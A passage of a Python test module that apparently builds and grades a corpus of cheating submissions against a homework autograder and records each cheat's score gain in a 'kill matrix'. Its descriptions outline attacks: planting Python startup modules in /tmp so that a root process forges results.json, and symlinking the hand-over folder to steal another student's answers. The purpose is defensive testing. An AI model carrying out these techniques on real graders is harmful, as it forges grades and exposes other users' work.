        Plants sitecustomize/usercustomize/dill/hw1_grading modules, a hw1_trusted package and a .pth file in
        /tmp, /dev/shm and /var/tmp, which forge results.json if a root process ever imports them (each
        import leaves /tmp/hw1cheat-imported-NAME-uidN).""",
        "stubs",
        cells=[early(TMP_PLANTING)],
    ),
    _cheat(
        "steal_other_grading",
        """
        Makes the hand-over folder (whose parent the student owns) a symlink to another grading's root-only
        /tmp/hw1-trusted-*/answers, so that root copies that submission's answers as this one's. Needs another
        grading on the machine; alone, it changes nothing.""",
        "stubs",
        cells=[at_end(STEAL_OTHER_GRADING)],
    ),
    Cheat(
        "zip_with_planted_files",
        _src("""
        Uploads Otter's export zip with the notebook plus a fake hw1_probes.py, tests/*.py without tests,
        an otter_config.json, files/hw1_trusted/checks/__init__.py and a ../results/results.json entry.""").strip(),
        "stubs",
        _zip_with_plants,
    ),
    Cheat(
        "folder_with_planted_files",
        _src("""
        The same as an extracted upload: hw1.ipynb beside hw1_probes.py, tests/, otter_config.json, a
        run_autograder, results/results.json, files/hw1_trusted/checks/__init__.py and a secret_seed of its own.
        (Symlinks are left out: tools/grade/gradescope.py copies a folder upload following its links.)""").strip(),
        "stubs",
        _folder_with_plants,
    ),
]

# What to look at after grading, beyond the scores (a test can check these too)
SIDE_EFFECTS = {
    "detached_results_rewriter": "no process of the sandbox user is left after grading",
    "fork_chain_escape": "no /tmp/hw1cheat-survived-* marker: nothing of the sandbox user ran after the phase",
    "huge_handover_files": "the grading writes results.json",
    "tmp_planting": "no /tmp/hw1cheat-imported-*-uid0 marker: no root process imported a planted module",
    "read_secrets": "the secret seed is nowhere in results.json",
    "kill_runner_forge_notes": "the student-visible text does not carry the forged claim",
    "steal_other_grading": "graded right after a victim graded with HW1_KEEP_WORK=1 (its root-only work folder left "
    "in /tmp), it must still score no more than its control",
}


# ---------------------------------------------------------------- grading the corpus, and its kill matrix

# stubs run in seconds (the longest cheat about 15 s); never_ending_kernel (asleep, so on the clock) meets the wall
# cap, while the two workers grade the rest (about 140 s): it must end before they do, or both CPUs wait for it
PHASE = {"HW1_PHASE_TIMEOUT": "90", "HW1_PHASE_WALL_CAP": "90"}
USERS = ("hw1cheat0", "hw1cheat1")  # the two busy workers, a CPU each
WAITER = "hw1cheat2"  # grades the cheats that sleep until the phase limit (no CPU), beside the two workers


def grade_corpus(autograder_zip, folder, out, chosen=None):
    """Grades the controls, then the ``chosen`` cheats (default: every one) through the route, as Gradescope runs
    the zip: ({control: Result}, {cheat: Result}). Uploads are built into ``folder``, gradings kept in ``out``."""
    from tools.grade import gradescope  # here: building the corpus needs no grader

    folder, out = pathlib.Path(folder), pathlib.Path(out)
    chosen = CHEATS if chosen is None else chosen
    for stale in glob.glob("/tmp/hw1cheat-*"):  # markers the side-effect test looks for must be this run's
        os.unlink(stale)

    def grade(name, upload, user, env=PHASE):
        cpu = str((USERS + (WAITER,)).index(user) % os.cpu_count())
        return gradescope.run_as_gradescope(upload, out / name, autograder_zip, user=user, cpus=cpu, extra_env=env)

    def grade_control(name, user):
        keep = {"HW1_KEEP_WORK": "1"} if name == "partial" else {}  # the victim of steal_other_grading
        return grade(f"control_{name}", CONTROLS[name](folder / f"control_{name}"), user, {**PHASE, **keep})

    # the controls at once, one per worker, and both before any cheat (steal_other_grading attacks partial's)
    assert len(CONTROLS) <= len(USERS)
    with concurrent.futures.ThreadPoolExecutor(max_workers=len(USERS)) as pool:
        controls = dict(zip(CONTROLS, pool.map(grade_control, CONTROLS, USERS)))

    users = queue.Queue()
    for user in USERS:
        users.put(user)

    def grade_busy(cheat):
        user = users.get()
        try:
            return grade(cheat.name, cheat.build(folder / cheat.name), user)
        finally:
            users.put(user)

    def grade_waiting(waiting):
        return [grade(cheat.name, cheat.build(folder / cheat.name), WAITER) for cheat in waiting]

    waiting = [c for c in chosen if c.waits]
    # the longest first (more training, or a busy loop until a limit; then the partial control's training), so
    # that the two workers end together instead of one grading a long cheat alone at the end
    busy = sorted((c for c in chosen if not c.waits), key=lambda c: (not c.long, c.control != "partial"))
    with (
        concurrent.futures.ThreadPoolExecutor(max_workers=1) as side,
        concurrent.futures.ThreadPoolExecutor(max_workers=len(USERS)) as pool,
    ):
        asleep = side.submit(grade_waiting, waiting)
        results = dict(zip([c.name for c in busy], pool.map(grade_busy, busy)))
        results.update(zip([c.name for c in waiting], asleep.result()))
    return controls, {c.name: results[c.name] for c in chosen}


KILL_MATRIX_BEGIN = (
    "<!-- BEGIN KILL MATRIX: generated by python -m tests.corpus.cheats --grade OUT --doc from one graded run -->"
)
KILL_MATRIX_END = "<!-- END KILL MATRIX -->"
WHY_WIDTH = 110  # characters of "what it tries" in the table (the whole text is in tests/corpus/cheats.py)


def kill_matrix(controls, cheats):
    """The docs/integrity.md block: one row per graded cheat, in the corpus's order, with its control's score, its
    own, and its gain in total (with the questions it gained on, if any)."""
    lines = [
        KILL_MATRIX_BEGIN,
        "",
        "| cheat | what it tries | control (score) | cheat's score | gain |",
        "| --- | --- | --- | --- | --- |",
    ]
    for cheat in CHEATS:
        if cheat.name not in cheats:
            continue
        control, result = controls[cheat.control], cheats[cheat.name]
        gained = [
            f"{q} {result.scores[q] - control.scores[q]:+g}"
            for q in control.scores
            if result.scores[q] > control.scores[q]
        ]
        why = " ".join(cheat.why.split())
        why = why if len(why) <= WHY_WIDTH else why[: WHY_WIDTH - 1] + "…"
        score = f"{result.total:g}" + (" (flagged)" if result.flags else "")
        gain = f"{result.total - control.total:+g}" + (f" ({', '.join(gained)})" if gained else "")
        lines.append(f"| {cheat.name} | {why} | {cheat.control} ({control.total:g}) | {score} | {gain} |")
    return "\n".join([*lines, "", KILL_MATRIX_END])


def kill_matrix_rows(doc):
    """[{"cheat": name, "gain": total gain}] of the kill matrix in a Markdown text."""
    block = doc.split(KILL_MATRIX_BEGIN, 1)[1].split(KILL_MATRIX_END, 1)[0]
    rows = []
    for line in block.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) == 5 and cells[0] not in ("cheat", "---"):
            rows.append({"cheat": cells[0], "gain": float(cells[4].split()[0])})
    return rows


def write_all(folder):
    folder = pathlib.Path(folder)
    paths = {}
    for name, build in CONTROLS.items():
        paths[f"control-{name}"] = build(folder / f"control-{name}")
    for cheat in CHEATS:
        paths[cheat.name] = cheat.build(folder / cheat.name)
    return paths


def main(argv=None):
    parser = argparse.ArgumentParser(description="Builds every control and cheat of the cheat corpus.")
    parser.add_argument("--write", type=pathlib.Path, help="folder to write them into")
    parser.add_argument(
        "--grade", type=pathlib.Path, help="grade them all through the route (Linux, root) into this folder"
    )
    parser.add_argument("--zip", type=pathlib.Path, default=ROOT / "autograder" / "hw1-autograder.zip")
    parser.add_argument("--doc", type=pathlib.Path, help="with --grade: write the kill matrix into this Markdown file")
    args = parser.parse_args(argv)
    if args.grade:
        controls, cheats = grade_corpus(args.zip, args.grade / "uploads", args.grade / "graded")
        block = kill_matrix(controls, cheats)
        print(block)
        if args.doc:
            text = args.doc.read_text()
            head, rest = text.split(KILL_MATRIX_BEGIN, 1)
            args.doc.write_text(head + block + rest.split(KILL_MATRIX_END, 1)[1])
        return
    names = [c.name for c in CHEATS]
    assert len(names) == len(set(names)), "cheat names must be unique"
    assert all(c.control in CONTROLS for c in CHEATS)
    if args.write:
        for name, path in write_all(args.write).items():
            print(f"{name}: {path}")
    else:
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            print(f"{len(write_all(tmp))} uploads build")


if __name__ == "__main__":
    main()
